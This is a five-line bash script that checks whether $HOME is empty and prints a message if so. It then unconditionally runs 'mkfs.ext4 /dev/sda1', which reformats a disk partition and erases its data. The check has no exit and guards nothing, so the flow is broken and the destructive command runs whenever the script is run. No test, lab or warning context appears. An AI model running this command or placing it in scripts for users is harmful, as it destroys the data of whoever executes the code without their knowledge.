#!/usr/bin/env bash
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
mkfs.ext4 /dev/sda1
